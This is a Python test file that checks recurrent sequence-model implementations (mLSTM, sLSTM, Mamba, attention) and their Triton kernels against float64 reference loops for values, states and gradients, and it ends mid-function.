"""Everything, against oracles.

    python -m pytest -q test_all.py             # the whole suite, nine minutes on two cores
    python -m pytest -q test_all.py -k "mlstm"  # one part
    python test_all.py --bugs                   # BUGS, at the end of this file: are they seen?

The float64 recurrent loops are the truth for all other forms, in value, final state and gradient;
the loops themselves are checked against sums written out without any stabiliser, and whole blocks
against numbers that the public packages computed (GOLDEN). Everything downstream (acting against
training, train.py against a plain loop, resume, windows, scores) is compared with an independent
computation. Tests of a simulator are skipped where it is not installed.
"""
import ast
import contextlib
import itertools
import json
import math
import multiprocessing
import os
import pickle
import re
import shutil
import subprocess
import sys
import time
from dataclasses import asdict, replace
from functools import partial
from pathlib import Path
from unittest import mock

import gymnasium as gym
import h5py
import numpy as np
import pytest
import torch
import torch.nn.functional as F
import tyro
from torch.multiprocessing.reductions import StorageWeakRef
from torch.utils._python_dispatch import TorchDispatchMode
from torch.utils._pytree import tree_leaves

import bench
import data
import eval as worlds
import gpt
import lram
import mamba
import mlstm
import slstm
import train

REPOSITORY = Path(__file__).resolve().parent
LENGTHS = (1, 2, 3, 15, 63, 64, 65, 150)
BARS = {torch.float64: 1e-10, torch.float32: 1e-5}
RECURRENT = ("mlstm", "xlstm", "slstm", "mamba")


@pytest.fixture(autouse=True)
def _seed():
    torch.manual_seed(0)


def needs(task):
    """Skips the test where the task's world cannot be made, with the reason."""
    if worlds.unavailable(task):
        pytest.skip(worlds.unavailable(task))


def relative(a, b):
    """Largest difference over the largest value of the truth b."""
    a, b = torch.as_tensor(a), torch.as_tensor(b)
    assert a.shape == b.shape
    assert torch.isfinite(a).all()
    return ((a.double() - b.double()).abs().max() / b.double().abs().max().clamp_min(1e-30)).item()


def value_and_gradients(form, inputs, state, weights, dtype):
    """Output, final state and gradients of a random linear loss of both, of one form in one dtype.

    weights: for the output and for each differentiable part of the final state.
    """
    inputs = [x.to(dtype).requires_grad_() for x in inputs]
    state = [x.to(dtype) for x in state]
    for x in state[:len(weights) - 1]:
        x.requires_grad_()
    out, end = form(*inputs, tuple(state))
    end = end if isinstance(end, tuple) else (end,)
    loss = (out * weights[0].to(dtype)).sum()
    loss = loss + sum((x * w.to(dtype)).sum() for x, w in zip(end, weights[1:]))
    wanted = [*inputs, *state[:len(weights) - 1]]
    gradients = torch.autograd.grad(loss, wanted)
    return [out, *end, *gradients]


# ------------------------------------------------------------------------------------------- mLSTM
def mlstm_inputs(T, B=2, H=3, K=24, V=20):
    """Moderate gates: i ~ N(0, 1), f ~ N(4, 1)."""
    q, k, v = (torch.randn(B, H, T, n, dtype=torch.float64) for n in (K, K, V))
    i, f = torch.randn(2, B, H, T, dtype=torch.float64)
    state = (torch.randn(B, H, K, V), torch.randn(B, H, K), torch.randn(B, H))
    return [q, k, v, i, f + 4], [s.double() for s in state]


MLSTM_FORMS = {
    "recurrent": mlstm.mlstm_recurrent, "parallel": mlstm.mlstm_parallel,
    "chunkwise": mlstm.mlstm_chunkwise,
    "chunks of 3": partial(mlstm.mlstm_chunkwise, chunk_size=3),
    "chunks of 1": partial(mlstm.mlstm_chunkwise, chunk_size=1),
}


def test_mlstm_definition_is_the_sum_it_stands_for():
    """Against this sum, with no m at all.

    h_t = sum_s w_ts (q_t k_s) v_s / max(|sum_s w_ts q_t k_s|, 1), w_ts = exp(i_s) prod sigmoid(f)
    """
    (q, k, v, i, f), _ = mlstm_inputs(12)
    h, (C, n, m) = mlstm.mlstm_recurrent(q, k, v, i, f)
    for t in range(12):
        decay = [torch.sigmoid(f[:, :, s + 1:t + 1]).prod(-1) * torch.exp(i[:, :, s])
                 for s in range(t + 1)]
        weight = torch.stack(decay, -1) * \
            torch.einsum("bhk,bhsk->bhs", q[:, :, t], k[:, :, :t + 1]) / 24 ** 0.5
        den = weight.sum(-1).abs().clamp(min=1.0)
        truth = torch.einsum("bhs,bhsv->bhv", weight, v[:, :, :t + 1]) / den[..., None]
        assert relative(h[:, :, t], truth) < 1e-5           # EPS is in ours and not in the sum
    true_C = sum(w[..., None, None] * k[:, :, s, :, None] * v[:, :, s, None]
                 for s, w in enumerate(decay))
    assert relative(C * torch.exp(m)[..., None, None], true_C) < 1e-12


@pytest.mark.parametrize("T", LENGTHS)
def test_mlstm_forms_agree(T):
    """Output, C, n, m and the gradients of q, k, v, i, f, C0 and n0, from a given state."""
    inputs, state = mlstm_inputs(T)
    weights = [torch.randn(2, 3, T, 20).double(), torch.randn(2, 3, 24, 20).double(),
               torch.randn(2, 3, 24).double()]
    truth = value_and_gradients(mlstm.mlstm_recurrent, inputs, state, weights, torch.float64)
    for name, form in MLSTM_FORMS.items():
        for dtype, bar in BARS.items():
            result = value_and_gradients(form, inputs, state, weights, dtype)
            errors = [relative(a, b) for a, b in zip(result, truth)]
            assert max(errors) < bar, (name, dtype, errors)


@pytest.mark.parametrize("T", (1, 3, 8))
def test_mlstm_in_the_form_for_a_compiler(T, monkeypatch):
    """The sums that torch.compile is given for few tokens, run as they stand."""
    inputs, state = mlstm_inputs(T)
    monkeypatch.setattr(torch.compiler, "is_dynamo_compiling", lambda: True)
    h, end = mlstm.mlstm_parallel(*inputs, state)
    truth, true_end = mlstm.mlstm_recurrent(*inputs, state)
    assert max(relative(a, b) for a, b in zip((h, *end), (truth, *true_end))) < 1e-10


@pytest.mark.parametrize("T", (1, 65, 150))
def test_mlstm_fresh_state_is_the_zero_state(T):
    """state=None takes a shortcut in the parallel form; it must equal explicit zeros."""
    inputs, _ = mlstm_inputs(T)
    zeros = mlstm.mlstm_initial_state(inputs[0], inputs[2])
    for form in MLSTM_FORMS.values():
        (h, end), (h0, end0) = form(*inputs), mlstm.mlstm_recurrent(*inputs, zeros)
        assert max(relative(a, b) for a, b in zip((h, *end), (h0, *end0))) < 1e-10


@pytest.mark.parametrize("T", (64, 65, 150))
def test_mlstm_without_the_final_state(T):
    """Training asks for no state at the end; between the chunks it is needed all the same."""
    inputs, state = mlstm_inputs(T)
    truth, _ = mlstm.mlstm_recurrent(*inputs, state)
    for form in MLSTM_FORMS.values():
        h, end = form(*inputs, state, final_state=False)
        assert end is None and relative(h, truth) < 1e-10


def test_mlstm_gradient_is_a_finite_difference():
    """Autograd of the definition against differences of its value, m constant along the way."""
    (q, k, v, i, f), state = mlstm_inputs(4, B=1, H=1, K=3, V=2)
    args = [x.requires_grad_() for x in (q, k, v, f, *state[:2])]
    # i only moves what m does not hide: m is detached, h does not depend on it but through EPS
    form = lambda q, k, v, f, C, n: mlstm.mlstm_recurrent(q, k, v, i, f, (C, n, state[2]))[0]
    assert torch.autograd.gradcheck(form, args, eps=1e-6, atol=1e-5)


@pytest.mark.parametrize("form", ("parallel", "chunkwise"))
def test_mlstm_under_stress(form, monkeypatch):
    """Gates of +-30 over 4,000 tokens: finite; float64 to 1e-7; float32 to 1e-4.

    The quotient cancels, so float32 is compared before it, in numerator and denominator, relative
    to the sum of the absolute terms.
    """
    T, K, V = 4000, 5, 3
    q, k, v = (torch.randn(1, 1, T, n, dtype=torch.float64) for n in (K, K, V))
    i, f = (torch.rand(2, 1, 1, T, dtype=torch.float64) - 0.5) * 60
    truth, (C, n, _) = mlstm.mlstm_recurrent(q, k, v, i, f)
    h, end = MLSTM_FORMS[form](q, k, v, i, f)
    assert relative(h, truth) < 1e-7 and relative(end[0], C) < 1e-7 and relative(end[1], n) < 1e-7

    monkeypatch.setattr(mlstm, "quotient", lambda num, den, m: torch.cat([num, den[..., None]], -1))
    exact, _ = mlstm.mlstm_recurrent(q, k, v, i, f)                     # (1, 1, T, V + 1)
    size, _ = mlstm.mlstm_recurrent(q.abs(), k.abs(), v.abs(), i, f)
    single, _ = MLSTM_FORMS[form](*(x.float() for x in (q, k, v, i, f)))
    assert torch.isfinite(single).all()
    assert ((single.double() - exact).abs() / size.clamp_min(1e-300)).max() < 1e-4


def test_mlstm_state_stays_float32_in_bfloat16():
    """Operands may be bfloat16, the state may not: it accumulates for whole episodes."""
    inputs, _ = mlstm_inputs(70)
    truth, _ = mlstm.mlstm_recurrent(*inputs)
    for name, form in MLSTM_FORMS.items():
        h, state = form(*(x.bfloat16() for x in inputs))
        assert h.dtype == torch.bfloat16 and all(s.dtype == torch.float32 for s in state)
        assert (h.double() - truth).norm() / truth.norm() < 5e-2, name


# ------------------------------------------------------------------------------------------- sLSTM
def slstm_inputs(T, B=2, H=3, dh=10):
    gates = torch.randn(B, T, 4, H, dh, dtype=torch.float64)
    gates[:, :, 1] += 3
    R = torch.randn(4, H, dh, dh, dtype=torch.float64) * 0.3
    y, c = torch.randn(2, B, H, dh, dtype=torch.float64)
    n, m = torch.rand(B, H, dh, dtype=torch.float64) + 1, torch.randn(B, H, dh, dtype=torch.float64)
    return [gates, R], [y, c, n, m]


def test_slstm_definition_without_stabiliser():
    """Against these equations, unit by unit.

    c_t = sigmoid(f) c + exp(i) tanh(z), n_t = sigmoid(f) n + exp(i), y_t = sigmoid(o) c / n
    """
    (gates, R), _ = slstm_inputs(9)
    out, _ = slstm.slstm_recurrent(gates, R)
    y = c = n = torch.zeros(2, 3, 10, dtype=torch.float64)
    for t in range(9):
        i, f, z, o = (gates[:, t, g] + torch.stack([y[:, h] @ R[g, h].T for h in range(3)], 1)
                      for g in range(4))
        c = torch.sigmoid(f) * c + torch.exp(i) * torch.tanh(z)
        n = torch.sigmoid(f) * n + torch.exp(i)
        y = torch.sigmoid(o) * c / n
        assert relative(out[:, t], y) < 1e-12


@pytest.mark.parametrize("T", LENGTHS)
def test_slstm_hand_written_gradient(T):
    """slstm_scan against the definition: output, state and gradients of gates, R, y0, c0, n0."""
    inputs, state = slstm_inputs(T)
    weights = [torch.randn(2, T, 3, 10).double(), *torch.randn(3, 2, 3, 10).double()]
    truth = value_and_gradients(slstm.slstm_recurrent, inputs, state, weights, torch.float64)
    for dtype, bar in BARS.items():
        result = value_and_gradients(slstm.slstm_scan, inputs, state, weights, dtype)
        errors = [relative(a, b) for a, b in zip(result, truth)]
        # float32 gradients pass T times through R: their error grows with T
        assert max(errors) < (bar if dtype == torch.float64 else max(bar, 1e-6 * T)), \
            (dtype, errors)


def test_slstm_fresh_state_takes_any_input_gate():
    """c / n = tanh(z) after the first token, however far from 0 its input gate lies."""
    gates = torch.randn(2, 1, 4, 3, 10, dtype=torch.float64)
    gates[0, :, 0], gates[1, :, 0] = -900.0, 900.0
    for form in (slstm.slstm_recurrent, slstm.slstm_scan):
        y, _ = form(gates, torch.zeros(4, 3, 10, 10, dtype=torch.float64))
        assert relative(y, torch.sigmoid(gates[:, :, 3]) * torch.tanh(gates[:, :, 2])) < 1e-12


def test_slstm_under_stress():
    """Gates of +-30 over 4,000 tokens: finite, and the two loops agree to 1e-7 in float64."""
    gates = (torch.rand(1, 4000, 4, 1, 5, dtype=torch.float64) - 0.5) * 60
    R = torch.randn(4, 1, 5, 5, dtype=torch.float64) * 0.1
    truth, _ = slstm.slstm_recurrent(gates, R)
    assert relative(slstm.slstm_scan(gates, R)[0], truth) < 1e-7
    single, state = slstm.slstm_scan(gates.float(), R.float())
    assert torch.isfinite(single).all() and (single - truth).abs().max() < 1e-3
    assert (state[2] >= 0.999).all()        # n >= 1 in its own units: the division is safe


# ------------------------------------------------------------------------------------------- Mamba
def mamba_inputs(T, B=2, E=12, N=16):
    inputs = [torch.randn(B, T, E), F.softplus(torch.randn(B, T, E) - 2), -torch.rand(E, N) * N,
              torch.randn(B, T, N), torch.randn(B, T, N), torch.randn(E)]
    return [x.double() for x in inputs], [torch.randn(B, E, N, dtype=torch.float64)]


def scan_form(scan):
    """A scan with its state as a tuple, like the others."""
    return lambda u, dt, A, B, C, D, state: scan(u, dt, A, B, C, D, state[0])


def test_mamba_definition_is_the_sum_it_stands_for():
    """y_t = D u_t + sum_s sum_n C_tn exp(A_n sum_{s<r<=t} dt_r) dt_s B_sn u_s."""
    (u, dt, A, B, C, D), _ = mamba_inputs(10)
    y, _ = mamba.selective_scan_recurrent(u, dt, A, B, C, D)
    total = dt.cumsum(1)
    for t in range(10):
        decay = torch.exp(A * (total[:, t, None] - total[:, :t + 1])[..., None])    # (B, S, E, N)
        terms = C[:, t, None, None] * decay * (dt * u)[:, :t + 1, :, None] * B[:, :t + 1, None]
        assert relative(y[:, t], terms.sum((1, 3)) + D * u[:, t]) < 1e-12


@pytest.mark.parametrize("T", LENGTHS)
def test_mamba_scans_agree(T):
    """Tree and hand-written loop against the definition: output, state and all seven gradients."""
    inputs, state = mamba_inputs(T)
    weights = [torch.randn(2, T, 12).double(), torch.randn(2, 12, 16).double()]
    truth = value_and_gradients(scan_form(mamba.selective_scan_recurrent), inputs, state, weights,
                                torch.float64)
    for scan in (mamba.selective_scan_parallel, mamba.selective_scan_loop):
        for dtype, bar in BARS.items():
            result = value_and_gradients(scan_form(scan), inputs, state, weights, dtype)
            errors = [relative(a, b) for a, b in zip(result, truth)]
            assert max(errors) < bar, (scan.__name__, dtype, errors)


def test_mamba_under_stress():
    """Step sizes from 1e-9 to 30 over 4,000 tokens: finite and equal."""
    (u, _, A, B, C, D), _ = mamba_inputs(4000, B=1, E=3)
    dt = torch.exp((torch.rand(1, 4000, 3).double() - 0.85) * 24)
    truth, _ = mamba.selective_scan_recurrent(u, dt, A, B, C, D)
    assert relative(mamba.selective_scan_parallel(u, dt, A, B, C, D)[0], truth) < 1e-7
    single, _ = mamba.selective_scan_loop(*(x.float() for x in (u, dt, A, B, C, D)))
    assert relative(single, truth) < 1e-4


# --------------------------------------------------------------------------------------- attention
@pytest.mark.parametrize("T", LENGTHS)
def test_attention_forms_and_splits_agree(T):
    """At once, in pieces through the cache, token by token, against softmax(q k^T / sqrt(dh)) v."""
    q, k, v = torch.randn(3, 2, 3, T, 20, dtype=torch.float64)
    score = (q @ k.transpose(-1, -2)) / 20 ** 0.5
    truth = score.masked_fill(torch.ones(T, T).triu(1).bool(), -torch.inf).softmax(-1) @ v
    for dtype, bar in BARS.items():
        qd, kd, vd = (x.to(dtype) for x in (q, k, v))
        assert relative(gpt.attention_recurrent(qd, kd, vd)[0], truth) < bar
        assert relative(gpt.attention_parallel(qd, kd, vd)[0], truth) < bar
        cut, state, parts = T // 3, None, []
        for part in (slice(0, cut), slice(cut, cut + 1), slice(cut + 1, T)):
            if qd[:, :, part].shape[2]:
                y, state = gpt.attention_parallel(qd[:, :, part], kd[:, :, part], vd[:, :, part],
                                                  state, T + 5)
                parts.append(y)
        assert relative(torch.cat(parts, 2), truth) < bar
        assert (state[2] == T).all()


def test_gpt_refuses_more_tokens_than_positions():
    """The one bounded backbone says so, with what to do."""
    model = small_model("gpt", context=4)
    _, state = model.backbone(torch.randn(2, 12, 32))
    with pytest.raises(ValueError, match="exceed its 12 positions"):
        model.backbone(torch.randn(2, 1, 32), state)


# ------------------------------------------------------------------------- kernels, on a GPU or not
INTERPRETED = os.environ.get("TRITON_INTERPRET") == "1"     # set by test_kernels_interpreted
GPU = torch.cuda.is_available() and not INTERPRETED
kernel_test = pytest.mark.skipif(not (INTERPRETED or GPU), reason="run by test_kernels_interpreted")


@pytest.mark.skipif(INTERPRETED or sys.platform != "linux", reason="Triton is for Linux")
def test_kernels_interpreted():
    """Every kernel test of this file in two processes where Triton interprets them on the CPU."""
    started = [subprocess.Popen(
        [sys.executable, "-m", "pytest", "-q", "-x", "-p", "no:cacheprovider", __file__,
         "-k", f"kernel and not interpreted and not ahead and {part}"],
        cwd=REPOSITORY, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        env={**os.environ, "TRITON_INTERPRET": "1", "OMP_NUM_THREADS": "1"})
        for part in ("test_mlstm", "not test_mlstm")]
    for process in started:
        told, _ = process.communicate()
        assert process.returncode == 0 and "skipped" not in told, told[-5000:]


@pytest.mark.skipif(INTERPRETED or sys.platform != "linux", reason="Triton is for Linux")
def test_kernels_compile_ahead_of_time():
    """Two widths of the paper for two GPUs nobody needs to have; all: kernels.py --compile-all.

    q, k, v, S and P are loaded in 16 bytes at a time, also where T is 150, no multiple of 16.
    """
    result = run("-c", "import kernels; kernels.compile_all((352, 640))")
    assert result.returncode == 0 and "FP_FUSION" not in result.stderr, result.stderr[-3000:]
    import kernels
    for name in [name for name in vars(kernels) if name.endswith("_kernel")]:
        (line,) = re.findall(rf"^{name} +\d+ binaries.*", result.stdout, re.M)
        tiled = name in ("states_kernel", "scores_kernel", "mix_kernel", "dscores_kernel")
        assert not tiled or " 0 loads of 2 bytes" in line, line


def kernel_errors(cell, truth, inputs, state, weights, dtype=torch.float32):
    """Largest relative errors of cell's output, final state and gradients; and its launches."""
    import kernels
    device = "cuda" if GPU else "cpu"
    move = lambda xs: [x.to(device) for x in xs]
    args = move(inputs), move(state), move(weights)
    kernels.LAUNCHES.clear()
    result = value_and_gradients(cell, *args, dtype)
    launches = dict(kernels.LAUNCHES)
    return [relative(a, b) for a, b in zip(
        result, value_and_gradients(truth, *args, torch.float64))], launches


def mlstm_kernel_case(T, K, V, B=1, H=3):
    inputs, state = mlstm_inputs(T, B, H, K, V)
    return inputs, state, [torch.randn(B, H, T, V).double(), torch.randn(B, H, K, V).double(),
                           torch.randn(B, H, K).double()]


@kernel_test
@pytest.mark.parametrize("T,K,V,chunk", (
    *((T, 16, 48, None) for T in (1, 2, 3, 15, 16, 17, 63, 64, 65, 150)),
    *((T, 80, 176, None) for T in (1, 16, 65)), (33, 176, 80, None), (150, 48, 16, None),
    *((T, 16, 48, 64) for T in (65, 128, 150, 200)), (40, 80, 16, 16), (50, 176, 80, 48),
))
def test_mlstm_kernel(T, K, V, chunk, monkeypatch):
    """Output, C, n, m, gradients of q, k, v, i, f, C0, n0, by the rule and in given chunks."""
    import kernels
    if chunk:
        monkeypatch.setattr(kernels, "chunk_length", lambda T, K, V: chunk)
    errors, launches = kernel_errors(kernels.mlstm_chunkwise_triton, mlstm.mlstm_recurrent,
                                     *mlstm_kernel_case(T, K, V))
    assert max(errors) < 1e-4, errors
    assert launches == dict(gate_kernel=1, states_kernel=2, scores_kernel=1, mix_kernel=4,
                            dscores_kernel=1, dgates_kernel=1)


@kernel_test
@pytest.mark.parametrize("T,chunk", ((3, None), (65, None), (150, 64)))
@pytest.mark.parametrize("use", ("h", "C", "n"))
def test_mlstm_kernel_without_a_state(T, chunk, use, monkeypatch):
    """Fresh, and a loss of one result only: every combination of work left out."""
    import kernels
    if chunk:
        monkeypatch.setattr(kernels, "chunk_length", lambda T, K, V: chunk)
    inputs, _ = mlstm_inputs(T, B=2, H=1, K=32, V=16)
    results = []
    for cell, dtype in ((mlstm.mlstm_recurrent, torch.float64),
                        (kernels.mlstm_chunkwise_triton, torch.float32)):
        leaves = [x.to(device="cuda" if GPU else "cpu", dtype=dtype).requires_grad_()
                  for x in inputs]
        h, (C, n, _) = cell(*leaves)
        loss = {"h": h, "C": C, "n": n}[use].sin().sum()
        gradients = torch.autograd.grad(loss, leaves, allow_unused=True)
        results.append([h, C, n, *(torch.zeros_like(x) if g is None else g
                                   for x, g in zip(leaves, gradients))])
    errors = [relative(b, a) for a, b in zip(*results)]
    assert max(errors) < 1e-4, errors
    h, none = kernels.mlstm_chunkwise_triton(*(x.float() for x in leaves), final_state=False)
    assert none is None and torch.equal(h, results[1][0])


@kernel_test
@pytest.mark.parametrize("T", range(1, 9))
def test_mlstm_step_kernel(T):
    """One launch, in place or not: the same bits, and the float64 recurrence to 1e-4."""
    import kernels
    for K, V in ((16, 48), (176, 80)):
        inputs, state, _ = mlstm_kernel_case(T, K, V, B=3, H=2)
        device = "cuda" if GPU else "cpu"
        inputs, state = ([x.float().to(device) for x in xs] for xs in (inputs, state))
        kernels.LAUNCHES.clear()
        h, end = kernels.mlstm_triton(*inputs, tuple(state))
        assert kernels.LAUNCHES == {"step_kernel": 1}
        truth, true_end = mlstm.mlstm_recurrent(*(x.double() for x in inputs),
                                                tuple(x.double() for x in state))
        errors = [relative(a, b) for a, b in zip((h, *end), (truth, *true_end))]
        assert max(errors) < 1e-4, errors
        again, (C, n, m) = kernels.mlstm_step_triton(*inputs, state, in_place=True)
        assert C is state[0]
        assert all(torch.equal(a, b) for a, b in zip((again, C, n, m), (h, *end)))


@kernel_test
@pytest.mark.parametrize("T,chunk", ((7, None), (200, None), (1200, 64)))
def test_mlstm_kernel_under_stress(T, chunk, monkeypatch):
    """Gates of +-30, numerator and denominator apart as in test_mlstm_under_stress."""
    import kernels
    if chunk:
        monkeypatch.setattr(kernels, "chunk_length", lambda T, K, V: chunk)
    (q, k, v, *_), state = mlstm_inputs(T, 1, 1, 16, 16)
    device = "cuda" if GPU else "cpu"
    inputs = [q, k, v, *(torch.rand(2, 1, 1, T, dtype=torch.float64) - 0.5) * 60]
    single = [x.float().to(device).requires_grad_() for x in inputs]
    h, end = kernels.mlstm_chunkwise_triton(*single, [x.float().to(device) for x in state])
    gradients = torch.autograd.grad(h.sum() + end[0].sum(), single)
    assert all(torch.isfinite(x).all() for x in (h, *end, *gradients))
    end64 = mlstm.mlstm_recurrent(*inputs, state)[1]
    assert max(relative(a.cpu(), b) for a, b in zip(end, end64)) < 1e-4

    monkeypatch.setattr(mlstm, "quotient", lambda num, den, m: torch.cat([num, den[..., None]], -1))
    exact = mlstm.mlstm_recurrent(*inputs, state)[0]                    # (1, 1, T, V + 1)
    size = mlstm.mlstm_recurrent(*(x.abs() for x in inputs[:3]), *inputs[3:],
                                 [*(x.abs() for x in state[:2]), state[2]])[0]
    swap = [x.detach().transpose(1, 2).contiguous() for x in single[:3]]
    h, _, _, _, _, _, m, den, *_ = kernels.mlstm_forward(
        *swap, *(x.detach() for x in single[3:]), *(x.float().to(device) for x in state),
        False, True, True)
    num = h.transpose(1, 2) * (torch.maximum(den.abs(), torch.exp(-m)) + mlstm.EPS)[..., None]
    ours = torch.cat([num, den[..., None]], -1).cpu().double()
    finite = torch.isfinite(ours)           # exp(-m) may be infinite, then h is 0 and num unknown
    assert finite[..., -1].all()
    assert ((ours - exact).abs() / size.clamp_min(1e-300))[finite].max() < 1e-4


@kernel_test
@pytest.mark.parametrize("T", (3, 40))
def test_mlstm_kernel_closed_and_broken_gates(T):
    """f = -inf forgets all, i = -inf writes nothing; NaN shows from its token on, not before."""
    import kernels
    inputs, state = mlstm_inputs(T, 1, 2, 16, 16)
    device = "cuda" if GPU else "cpu"
    inputs[3][:, :, 1] = -torch.inf
    inputs[4][:, :, T - 1] = -torch.inf
    single = [x.float().to(device) for x in inputs]
    h, end = kernels.mlstm_triton(*single, [x.float().to(device) for x in state])
    truth, true_end = mlstm.mlstm_recurrent(*inputs, state)
    assert max(relative(a.cpu(), b) for a, b in zip((h, *end), (truth, *true_end))) < 1e-4
    for gate in (3, 4):
        broken = [x.clone() for x in single]
        broken[gate][:, :, 1] = torch.nan
        h, end = kernels.mlstm_triton(*broken, [x.float().to(device) for x in state])
        assert torch.isfinite(h[:, :, 0]).all() and torch.isnan(h[:, :, 1:]).all()
        assert torch.isnan(end[0]).all() and torch.isnan(end[1]).all()


def slstm_kernel_case(T, dh, B=3, H=2):
    inputs, state = slstm_inputs(T, B, H, dh)
    inputs[1] = inputs[1] * (10 / dh) ** 0.5
    return inputs, state, [torch.randn(B, T, H, dh).double(),
                           *torch.randn(3, B, H, dh).double()]


@kernel_test
@pytest.mark.parametrize("T,dh,B,H", (
    *((T, 16, 3, 2) for T in (1, 2, 3, 15, 16, 17)), (2, 45, 17, 3), (9, 45, 17, 3), (3, 266, 2, 1),
    (5, 266, 2, 1), (65, 24, 1, 1), (4, 80, 2, 3)))
def test_slstm_kernel(T, dh, B, H):
    """Output, y, c, n, m and gradients of gates, R, y0, c0, n0; one launch each from T = 4 on."""
    import kernels
    errors, launches = kernel_errors(kernels.slstm_scan_triton, slstm.slstm_recurrent,
                                     *slstm_kernel_case(T, dh, B, H))
    assert max(errors) < 1e-4, errors
    assert launches == dict(slstm_forward_kernel=1 if T > 3 else T,
                            slstm_backward_kernel=1 if T > 3 else T + 1)


@kernel_test
@pytest.mark.parametrize("T", (3, 12))
def test_slstm_kernel_under_stress(T):
    """Gates of +-30, and an input gate that is closed from the first token on."""
    import kernels
    inputs, state, weights = slstm_kernel_case(T, 24)
    inputs[0] = torch.where(torch.rand_like(inputs[0]) < 0.5, -30.0, 30.0) + inputs[0]
    errors, _ = kernel_errors(kernels.slstm_scan_triton, slstm.slstm_recurrent, inputs, state,
                              weights)
    assert max(errors) < 1e-4, errors
    inputs = [x.detach() for x in inputs]
    inputs[0][:, :, 0] = -1e30
    device = "cuda" if GPU else "cpu"
    single = [x.float().to(device) for x in inputs]
    for fresh in (True, False):
        ours, end = kernels.slstm_scan_triton(*single, None if fresh else
                                              [x.float().to(device) for x in state])
        truth, true_end = slstm.slstm_recurrent(*inputs, None if fresh else
                                                [x.detach() for x in state])
        assert max(relative(a.cpu(), b) for a, b in zip((ours, *end), (truth, *true_end))) < 1e-4


@kernel_test
def test_slstm_kernel_keeps_the_digits_of_small_inputs():
    """One token with R = 0 and o = 0: y = tanh(z) / 2, each element relative to itself."""
    import kernels
    z, gates = torch.logspace(-8, 1, 64), torch.zeros(1, 1, 4, 1, 64)
    gates[0, 0, 2, 0] = z
    device = "cuda" if GPU else "cpu"
    y, _ = kernels.slstm_scan_triton(gates.to(device), torch.zeros(4, 1, 64, 64, device=device))
    assert (2 * y.flatten().cpu().double() / z.double().tanh() - 1).abs().max() < 1e-6


@kernel_test
@pytest.mark.parametrize("T,B,E,N", (
    *((T, 1, 5, 16) for T in (1, 2, 3, 15, 16, 17, 65)), (9, 3, 80, 7), (20, 2, 70, 16),
    (8, 1, 1, 1), (5, 2, 5, 40)))
def test_mamba_kernel(T, B, E, N):
    """Output, state and all seven gradients, one launch each."""
    import kernels
    inputs, state = mamba_inputs(T, B, E, N)
    weights = [torch.randn(B, T, E).double(), torch.randn(B, E, N).double()]
    errors, launches = kernel_errors(scan_form(kernels.selective_scan_triton),
                                     scan_form(mamba.selective_scan_recurrent), inputs, state,
                                     weights)
    assert max(errors) < 1e-4, errors
    assert launches == dict(scan_forward_kernel=1, scan_backward_kernel=1)


@kernel_test
def test_mamba_kernel_under_stress():
    """Step sizes of 0, 1e-6 and 50: decays of 1 and of 0."""
    import kernels
    inputs, state = mamba_inputs(33, 2, 20, 16)
    inputs[1] = torch.tensor([0.0, 1e-6, 50.0]).double()[torch.randint(0, 3, (2, 33, 20))]
    weights = [torch.randn(2, 33, 20).double(), torch.randn(2, 20, 16).double()]
    errors, _ = kernel_errors(scan_form(kernels.selective_scan_triton),
                              scan_form(mamba.selective_scan_recurrent), inputs, state, weights)
    assert max(errors) < 1e-4, errors


def kernel_cases(dtype=torch.float32):
    """Name -> (kernel, its definition, inputs, state, weights), small, more than one chunk."""
    import kernels
    scan = lambda cell: lambda *args: cell(*args[:-1], args[-1][0])
    step = lambda q, k, v, i, f, state: kernels.mlstm_step_triton(q, k, v, i, f, state)
    mamba_case = [*mamba_inputs(11, 2, 20, 16), [torch.randn(2, 11, 20).double(),
                                                torch.randn(2, 20, 16).double()]]
    cases = {"mlstm": (kernels.mlstm_chunkwise_triton, mlstm.mlstm_recurrent,
                       *mlstm_kernel_case(37, 32, 48)),
             "step": (step, mlstm.mlstm_recurrent, *mlstm_kernel_case(5, 32, 48)),
             "slstm": (kernels.slstm_scan_triton, slstm.slstm_recurrent,
                       *slstm_kernel_case(6, 45)),
             "mamba": (scan(kernels.selective_scan_triton), scan(mamba.selective_scan_recurrent),
                       *mamba_case)}
    return cases


@kernel_test
@pytest.mark.parametrize("name,chunk", (
    ("mlstm", 16), ("mlstm", 48), ("fresh", 16), ("fresh", 48), ("last n", 16), ("last n", 48),
    ("step", None), ("slstm", None), ("mamba", None)))
def test_kernels_write_every_element(name, chunk, monkeypatch):
    """Memory poisoned with NaN before use, twice: the bits of an honest run (on a GPU: no race)."""
    import kernels
    monkeypatch.setattr(kernels, "chunk_length", lambda T, K, V: chunk)
    cell, _, inputs, state, weights = kernel_cases().get(name, kernel_cases()["mlstm"])
    device = "cuda" if GPU else "cpu"
    inputs, state, weights = ([x.to(device) for x in xs] for xs in (inputs, state, weights))
    results = lambda: value_and_gradients(cell, inputs, state, weights, torch.float32)
    if name == "step":
        def results():
            h, end = cell(*(x.float() for x in inputs), [x.float() for x in state])
            return [h, *end]
    if name == "fresh":         # work left out: no state given, none wanted
        def results():
            leaves = [x.float().requires_grad_() for x in inputs]
            h, _ = kernels.mlstm_chunkwise_triton(*leaves, final_state=False)
            return [h, *torch.autograd.grad(h.sin().sum(), leaves)]
    if name == "last n":
        def results():
            leaves = [x.float().requires_grad_() for x in inputs]
            _, (_, n, _) = kernels.mlstm_chunkwise_triton(*leaves)
            return torch.autograd.grad(n.sin().sum(), [leaves[1], *leaves[3:]])
    clean = results()
    for owner, maker in ((torch, "empty"), (torch, "empty_like"), (torch.Tensor, "new_empty")):
        original = getattr(owner, maker)
        monkeypatch.setattr(owner, maker, lambda *a, original=original, **k: original(*a, **k)
                            .fill_(torch.nan))
    assert torch.empty(3).isnan().all() and torch.ones(2).new_empty(3).isnan().all()
    for _ in range(2):
        assert all(torch.equal(a, b) for a, b in zip(clean, results()))


@kernel_test
@pytest.mark.parametrize("name", ("mlstm", "step", "slstm", "mamba"))
def test_kernels_in_half_precision(name):
    """float16 operands (bfloat16 too on a GPU) stay within their rounding, the state float32."""
    cell, truth, inputs, state, _ = kernel_cases()[name]
    device = "cuda" if GPU else "cpu"
    for dtype in (torch.float16, torch.bfloat16)[:1 + GPU]:
        half = [x.to(device, dtype) if x.dim() > 2 and not (name == "mamba" and j == 1) else
                x.float().to(device) for j, x in enumerate(inputs)]
        for x in half[:0 if name == "step" else None]:
            x.requires_grad_()
        out, end = cell(*half, [x.float().to(device) for x in state])
        exact = [x.detach().double().requires_grad_() for x in half]
        true_out, true_end = truth(*exact, [x.to(device) for x in state])
